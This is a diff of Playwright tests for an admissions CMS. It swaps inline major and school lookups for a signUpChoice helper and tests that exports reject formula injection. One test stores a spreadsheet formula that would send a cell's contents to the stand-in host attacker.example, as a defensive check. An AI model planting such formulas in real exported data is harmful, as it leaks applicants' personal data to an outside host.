@@ -1,25 +1,20 @@
 import { expect, test } from '@playwright/test'
 import ExcelJS from 'exceljs'
 import { DEMO_STAFF } from '../../../apps/cms/src/seed/accounts'
-import { CMS_URL, data, idCard, staffLogin } from '../../lib/api'
+import { CMS_URL, data, idCard, signUpChoice, staffLogin } from '../../lib/api'
 
 /** Admissions exports applications as .xlsx and .csv, filtered; other roles cannot. */
 test('admissions exports applications as .xlsx and .csv; an editor cannot', async ({ request }) => {
   const admissions = DEMO_STAFF.find((s) => s.roles.includes('admissions'))!
   const editor = DEMO_STAFF.find((s) => s.roles.includes('editor'))!
-  const major = (await data(request, 'enrolling.Major/list', { page: 0, limit: 0, category_type: 'elderly' }))
-    .list[0]!
-  const school = (await data(request, 'educational.School/list', { page: 0, limit: 0 })).list[0]!
+  const choice = await signUpChoice(request, 'elderly')
   const added = await data(request, 'enrolling.Enroll/add', {
-    category_type: 'elderly',
+    ...choice,
     name: '导出测试',
     gender: 'female',
     id_card: idCard(Date.now() % 991, '19580303'),
     mobile: '13600006666',
     education: 'other',
-    level: major.level,
-    major_id: major.id,
-    school_id: school.id,
   })
   const token = await staffLogin(request, admissions.email, admissions.password)
   const auth = { authorization: `JWT ${token}` }
@@ -55,20 +50,15 @@ test('admissions exports applications as .xlsx and .csv; an editor cannot', asyn
 
 test('free text that looks like a formula stays text in both formats', async ({ request }) => {
   const admissions = DEMO_STAFF.find((s) => s.roles.includes('admissions'))!
-  const major = (await data(request, 'enrolling.Major/list', { page: 0, limit: 0, category_type: 'elderly' }))
-    .list[0]!
-  const school = (await data(request, 'educational.School/list', { page: 0, limit: 0 })).list[0]!
+  const choice = await signUpChoice(request, 'elderly')
   const formula = '=HYPERLINK("http://attacker.example/?x="&A2,"点击查看")'
   const added = await data(request, 'enrolling.Enroll/add', {
-    category_type: 'elderly',
+    ...choice,
     name: '公式测试',
     gender: 'male',
     id_card: idCard((Date.now() + 7) % 991, '19560404'),
     mobile: '13600007777',
     education: 'other',
-    level: major.level,
-    major_id: major.id,
-    school_id: school.id,
     address: formula,
     remark: '@SUM(1+1)',
   })
